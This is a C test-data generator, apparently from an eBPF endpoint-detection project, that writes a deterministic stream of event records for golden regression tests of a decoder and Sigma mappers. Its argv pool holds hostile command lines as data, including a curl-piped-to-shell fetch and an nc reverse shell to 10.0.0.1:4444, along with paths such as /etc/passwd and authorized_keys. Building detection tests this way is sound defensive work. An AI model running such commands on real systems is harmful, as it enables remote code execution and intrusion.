// SPDX-License-Identifier: GPL-2.0-only
/*
 * The golden stream: a deterministic sequence of raw ring-buffer records,
 * every record type from every attach source, with pseudo-random fixed
 * parts (flags, ids, results, addresses) and tails drawn from a pool of
 * realistic and hostile strings, plus a few records the decoder must
 * refuse. Written as (u32 length, bytes) pairs. tests/golden/replay runs
 * it through decode, the process table, ECS and the Sigma mappers; the
 * output is compared byte for byte with tests/golden/expected.txt, which
 * was produced before the event-family refactor (issue 11).
 *
 *   gen_records OUT
 */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "edr_event.h"

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

static const char *const paths[] = {
	"/usr/bin/bash", "/tmp/x", "/etc/passwd", "/home/user/.ssh/authorized_keys",
	"relative/name", "/var/log/auth.log", "/dev/shm/.hidden", "/usr/lib/modules/evil.ko",
	"/tmp/\xff\xfe invalid utf8", "/opt/with \"quotes\" and \\backslash",
	"/memfd:payload (deleted)", "/tmp/gone (deleted)", "/", "/proc/self/mem",
};
#define NPATHS (sizeof(paths) / sizeof(paths[0]))

static const char argvs[][64] = {
	"bash\0-c\0curl http://x | sh", "/bin/true", "python3\0-c\0import os", "",
	"nc\0-e\0/bin/sh\0""10.0.0.1\0""4444", "tar\0czf\0/tmp/a.tgz\0/etc",
};
static const size_t argv_lens[] = { 28, 9, 22, 0, 29, 25 };

/* A record type's tail: the offsets of its u16 length fields, in tail order. */
struct shape {
	uint16_t type;
	size_t size;
	size_t flags_off;       /* the family's flags word */
	size_t lens[4];         /* tail length fields; 0 ends the list */
	int argv_at;            /* index in lens[] of an argv piece, or -1 */
	size_t rnd_size;        /* bytes of the fixed part drawn at random; 0: all of it. The
				 * denial part of EXEC_DENIED (ABI 3) is not, so the stream
				 * of every other record stays what it was. */
};

#define O(s, f) offsetof(struct s, f)
static const struct shape shapes[] = {
	{ EDR_EVENT_EXEC, sizeof(struct edr_exec), O(edr_exec, flags),
	  { O(edr_exec, filename_len), O(edr_exec, path_len), O(edr_exec, cwd_len), O(edr_exec, argv_len) }, 3, 0 },
	{ EDR_EVENT_EXEC_DENIED, sizeof(struct edr_exec_denied), O(edr_exec, flags),
	  { O(edr_exec, filename_len), O(edr_exec, path_len), O(edr_exec, cwd_len), O(edr_exec, argv_len) }, 3,
	  sizeof(struct edr_exec) },
	{ EDR_EVENT_FORK, sizeof(struct edr_fork), 0, { 0 }, -1, 0 },
	{ EDR_EVENT_EXIT, sizeof(struct edr_exit), 0, { 0 }, -1, 0 },
	{ EDR_EVENT_FILE_CREATE, sizeof(struct edr_file), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_WRITE, sizeof(struct edr_file), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_UNLINK, sizeof(struct edr_file), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_RENAME, sizeof(struct edr_file), O(edr_file, flags),
	  { O(edr_file, path_len), O(edr_file, old_path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_CHMOD, sizeof(struct edr_file), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_CHOWN, sizeof(struct edr_file), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_LINK, sizeof(struct edr_file), O(edr_file, flags),
	  { O(edr_file, path_len), O(edr_file, old_path_len) }, -1, 0 },
	{ EDR_EVENT_FILE_SYMLINK, sizeof(struct edr_file), O(edr_file, flags),
	  { O(edr_file, path_len), O(edr_file, old_path_len) }, -1, 0 },
	{ EDR_EVENT_NET_CONNECT, sizeof(struct edr_net), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_NET_ACCEPT, sizeof(struct edr_net), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_NET_BIND, sizeof(struct edr_net), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_NET_LISTEN, sizeof(struct edr_net), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_NET_SEND, sizeof(struct edr_net), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_CRED_CHANGE, sizeof(struct edr_cred), O(edr_cred, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_PTRACE, sizeof(struct edr_ptrace), O(edr_ptrace, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_PROC_VM_WRITE, sizeof(struct edr_vm_write), O(edr_vm_write, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_MODULE_LOAD, sizeof(struct edr_module), O(edr_module, flags),
	  { O(edr_module, name_len), O(edr_module, path_len) }, -1, 0 },
	{ EDR_EVENT_BPF_PROG, sizeof(struct edr_bpf), O(edr_bpf, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_BPF_MAP, sizeof(struct edr_bpf), O(edr_bpf, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_MOUNT, sizeof(struct edr_mount), O(edr_mount, flags),
	  { O(edr_mount, fstype_len), O(edr_mount, source_len), O(edr_mount, target_len) }, -1, 0 },
	{ EDR_EVENT_MEMFD_CREATE, sizeof(struct edr_memfd), O(edr_memfd, flags), { O(edr_memfd, name_len) }, -1, 0 },
	{ EDR_EVENT_MEM_WX, sizeof(struct edr_mem_wx), O(edr_mem_wx, flags), { O(edr_mem_wx, path_len) }, -1, 0 },
};
#define NSHAPES (sizeof(shapes) / sizeof(shapes[0]))

/* Record types added after the stream was fixed: generated after it, so
 * the records before them are unchanged. */
static const struct shape late_shapes[] = {
	{ EDR_EVENT_NET_DENIED, sizeof(struct edr_net_denied), O(edr_net, flags), { 0 }, -1, 0 },
	{ EDR_EVENT_FILE_DENIED, sizeof(struct edr_file_denied), O(edr_file, flags), { O(edr_file, path_len) }, -1, 0 },
};
#define NLATE (sizeof(late_shapes) / sizeof(late_shapes[0]))

/* Processes the stream is about: 100 (parent 1), 200 (parent 100), and
 * 300, which the table never learns of. */
static const uint32_t tgids[] = { 100, 200, 300 };
static const uint32_t uids[] = { 0, 65534, 4242 };

static uint8_t rec[EDR_EVENT_MAX_SIZE];
static uint64_t seq;

static void put(FILE *f, const void *p, uint32_t len)
{
	fwrite(&len, sizeof(len), 1, f);
	fwrite(p, 1, len, f);
}

static void task(struct edr_task *t, uint32_t tgid, int k)
{
	t->tgid = tgid;
	t->pid = tgid + (k & 1);
	t->ppid = tgid == 100 ? 1 : tgid == 200 ? 100 : 99;
	t->uid = uids[k % 3];
	t->euid = uids[(k + 1) % 3];
	t->gid = uids[k % 3];
	t->egid = uids[(k + 2) % 3];
	t->auid = k % 2 ? 1000 : (uint32_t)-1;
	t->sessionid = k % 3 ? 7 : (uint32_t)-1;
	t->cgroup_id = 4000 + k % 5;
	t->start_ns = tgid * 1000000ull;
	t->parent_start_ns = t->ppid * 1000000ull;
	snprintf(t->comm, sizeof(t->comm), k % 4 ? "comm%u" : "\xc3\x28long-comm-name%u", tgid);
}

static void hdr(uint16_t type, uint32_t size, int k)
{
	struct edr_event_hdr *h = (void *)rec;

	h->type = type;
	h->version = EDR_ABI_VERSION;
	h->size = size;
	h->ts_ns = 5000000000000ull + seq * 1234567ull;
	h->seq = ++seq;
	h->cpu = k % 2;
	h->flags = 0;
}

/* The attach path that observed a record (EDR_SRC_*: 0 tp, 1 lsm, 2 fentry,
 * 3 kprobe), in the header, for every record type. */
static void set_source(unsigned src)
{
	struct edr_event_hdr *h = (void *)rec;

	h->flags = src & EDR_HDR_SRC_MASK;
}

/* Keeps the fields the decoder checks in range, and fixes a few others to
 * values that take the interesting branches. */
static void constrain(const struct shape *s, int k)
{
	switch (s->type) {
	case EDR_EVENT_EXEC: case EDR_EVENT_EXEC_DENIED: {
		struct edr_exec *e = (void *)rec;

		e->flags &= 0x7f;
		e->argc = k % 5;
		break;
	}
	case EDR_EVENT_FORK: {
		struct edr_fork *f = (void *)rec;

		f->parent_tgid = f->task.ppid;
		f->parent_pid = f->task.ppid + 1;
		f->child_pid = f->task.pid;
		f->child_tgid = f->task.tgid;
		break;
	}
	case EDR_EVENT_EXIT: {
		static const uint32_t codes[] = { 0, 1 << 8, 9, 11 | 0x80, 15, 42 << 8, 64 };

		((struct edr_exit *)rec)->exit_code = codes[k % 7];
		break;
	}
	case EDR_EVENT_NET_CONNECT: case EDR_EVENT_NET_ACCEPT: case EDR_EVENT_NET_BIND:
	case EDR_EVENT_NET_LISTEN: case EDR_EVENT_NET_SEND: case EDR_EVENT_NET_DENIED: {
		struct edr_net *n = (void *)rec;

		n->family = k % 2 ? 10 : 2;
		n->protocol = k % 3 ? 6 : 17;
		n->flags &= 3;
		if (n->family == 2) {
			memset(n->saddr + 4, 0, 12);
			memset(n->daddr + 4, 0, 12);
		} else if (k % 4 == 1) {
			memset(n->daddr, 0, 10);
			n->daddr[10] = n->daddr[11] = 0xff;
		}
		if (k % 5 == 0)
			n->ret = 0;
		break;
	}
	case EDR_EVENT_CRED_CHANGE: {
		struct edr_cred *c = (void *)rec;

		c->syscall = k % 12;
		c->flags &= 3;
		c->new_ids.cap_effective &= k % 2 ? ~0ull : 0x1ffffffffffull;
		break;
	}
	case EDR_EVENT_PTRACE: {
		static const uint64_t req[] = { EDR_PTRACE_TRACEME, EDR_PTRACE_ATTACH, EDR_PTRACE_SEIZE, 77 };
		struct edr_ptrace *p = (void *)rec;

		p->request = req[k % 4];
		p->flags &= 3;
		p->target_tgid = k % 3 == 0 ? 0 : tgids[k % 3];
		p->target_pid = tgids[(k + 1) % 3];
		if (k % 2)
			p->target_comm[0] = 0;
		break;
	}
	case EDR_EVENT_PROC_VM_WRITE: {
		struct edr_vm_write *v = (void *)rec;

		v->flags &= 7;
		v->target_tgid = k % 3 == 0 ? 0 : tgids[k % 3];
		v->target_pid = tgids[(k + 2) % 3];
		if (k % 2)
			v->ret = -(int64_t)(k + 1);
		break;
	}
	case EDR_EVENT_MODULE_LOAD: case EDR_EVENT_MOUNT:
		*(uint32_t *)(rec + s->flags_off) &= 0x3f;
		break;
	case EDR_EVENT_BPF_PROG: case EDR_EVENT_BPF_MAP: {
		struct edr_bpf *b = (void *)rec;

		b->cmd = s->type == EDR_EVENT_BPF_PROG ? 5 : 0;
		b->type = k % 2 ? b->type % 40 : (uint32_t)k;
		b->flags &= 0x1f;
		if (k % 3 == 0)
			memcpy(b->name, "sixteen-bytes-ab", 16);
		else
			snprintf(b->name, sizeof(b->name), "prog_%d", k);
		break;
	}
	case EDR_EVENT_MEMFD_CREATE: {
		struct edr_memfd *m = (void *)rec;

		m->flags &= 0x3f;
		m->mfd_flags &= 0x3f;
		if (k == 5)
			m->ret = INT32_MIN;
		break;
	}
	case EDR_EVENT_MEM_WX: {
		struct edr_mem_wx *w = (void *)rec;

		w->flags &= 0x3f;
		w->op = k % 5;
		w->prot &= 7;
		if (k % 2)
			w->ret = -(int64_t)(k + 1);
		break;
	}
	default: { /* FILE_* */
		struct edr_file *f = (void *)rec;

		f->flags &= 0x1ff;
		if (s->type == EDR_EVENT_FILE_DENIED)
			f->flags &= EDR_FILE_PATH_TRUNC;
		if (s->type != EDR_EVENT_FILE_RENAME && s->type != EDR_EVENT_FILE_LINK &&
		    s->type != EDR_EVENT_FILE_SYMLINK)
			f->old_path_len = 0;
		if (k % 3 == 0)
			f->uid = f->gid = (uint32_t)-1;
		if (k % 4 == 0)
			f->mode = 0;
		break;
	}
	}
}

/* The denial part of a denial record: rule, mechanism, operation by k. */
static void deny(const struct shape *s, int k)
{
	static const size_t at[] = {
		[EDR_EVENT_EXEC_DENIED] = offsetof(struct edr_exec_denied, deny),
		[EDR_EVENT_NET_DENIED] = offsetof(struct edr_net_denied, deny),
		[EDR_EVENT_FILE_DENIED] = offsetof(struct edr_file_denied, deny),
	};
	struct edr_deny *d;

	if (s->type >= sizeof(at) / sizeof(at[0]) || !at[s->type])
		return;
	d = (void *)(rec + at[s->type]);
	d->rule = 1000 + (uint32_t)k;
	d->generation = k % 2;
	if (s->type == EDR_EVENT_EXEC_DENIED) {
		d->mechanism = k % 2 ? EDR_MECH_LSM : EDR_MECH_KILL_AT_EXEC;
		d->op = EDR_DENY_OP_EXEC;
	} else if (s->type == EDR_EVENT_NET_DENIED) {
		d->mechanism = k % 2 ? EDR_MECH_LSM : EDR_MECH_CGROUP;
		d->op = k % 3 ? EDR_DENY_OP_CONNECT : EDR_DENY_OP_SENDMSG;
	} else {
		d->mechanism = EDR_MECH_LSM;
		d->op = EDR_DENY_OP_OPEN_WRITE;
	}
}

/* One record of shape s from source src; k varies the values. */
static size_t build(const struct shape *s, unsigned src, int k)
{
	size_t off = s->size, i;

	memset(rec, 0, sizeof(rec));
	for (i = sizeof(struct edr_event_hdr) + sizeof(struct edr_task); i < (s->rnd_size ? s->rnd_size : s->size);
	     i++)
		rec[i] = (uint8_t)rnd();
	task((struct edr_task *)(rec + sizeof(struct edr_event_hdr)), tgids[k % 3], k);
	for (i = 0; i < 4 && s->lens[i]; i++) {
		uint16_t len = 0;

		if ((int)i == s->argv_at) {
			size_t a = (k + src) % 6;

			memcpy(rec + off, argvs[a], argv_lens[a]);
			rec[off + argv_lens[a]] = 0;
			len = argv_lens[a] + 1;
		} else if ((k + i) % 7 != 6 || (s->type >= EDR_EVENT_FILE_CREATE &&
						 s->type <= EDR_EVENT_FILE_CHOWN) ||
			   s->type == EDR_EVENT_FILE_LINK || s->type == EDR_EVENT_FILE_SYMLINK) {
			const char *p = paths[(rnd() + i) % NPATHS];

			len = strlen(p) + 1;
			memcpy(rec + off, p, len);
		}
		memcpy(rec + s->lens[i], &len, sizeof(len));
		off += len;
	}
	constrain(s, k);
	deny(s, k);
	hdr(s->type, off, k);
	set_source(src);
	return off;
}

int main(int argc, char **argv)
{
	FILE *f;
	size_t n, i;
	unsigned src;
	int k;

	if (argc != 2) {
		fprintf(stderr, "usage: gen_records OUT\n");
		return 2;
	}
	f = fopen(argv[1], "wb");
	if (!f) {
		perror(argv[1]);
		return 1;
	}
	/* The processes first: 100 and 200 fork and exec, so later records
	 * find them (and 200's parent) in the table. */
	for (k = 0; k < 2; k++) {
		n = build(&shapes[2], 0, k * 3 + (k ? 1 : 0)); /* fork */
		put(f, rec, n);
	}
	for (k = 0; k < 2; k++) {
		n = build(&shapes[0], 0, k ? 1 : 0); /* exec */
		put(f, rec, n);
	}
	for (i = 0; i < NSHAPES; i++)
		for (src = 0; src < 4; src++)
			for (k = 0; k < 4; k++) {
				n = build(&shapes[i], src, (int)(i + src * 4 + k));
				put(f, rec, n);
			}
	/* Records the decoder refuses: short, wrong version, wrong size,
	 * unknown type, a tail overrun. */
	n = build(&shapes[4], 0, 1);
	put(f, rec, 10);
	((struct edr_event_hdr *)rec)->version = 99;
	put(f, rec, n);
	((struct edr_event_hdr *)rec)->version = EDR_ABI_VERSION;
	put(f, rec, n - 1);
	((struct edr_event_hdr *)rec)->type = 250;
	put(f, rec, n);
	n = build(&shapes[0], 0, 2);
	((struct edr_exec *)rec)->argv_len += 3;
	put(f, rec, n);
	/* Exits end the stream: 200 then 100. */
	for (k = 0; k < 2; k++) {
		n = build(&shapes[3], 0, k ? 0 : 1);
		put(f, rec, n);
	}
	/* The denials of ABI 3, from the sources that produce them. */
	for (i = 0; i < NLATE; i++) {
		static const unsigned srcs[] = { EDR_SRC_LSM, EDR_SRC_CGROUP };

		for (src = 0; src < 2; src++)
			for (k = 0; k < 4; k++) {
				n = build(&late_shapes[i], srcs[src], (int)(i + src * 4 + k));
				put(f, rec, n);
			}
	}
	return fclose(f) ? 1 : 0;
}
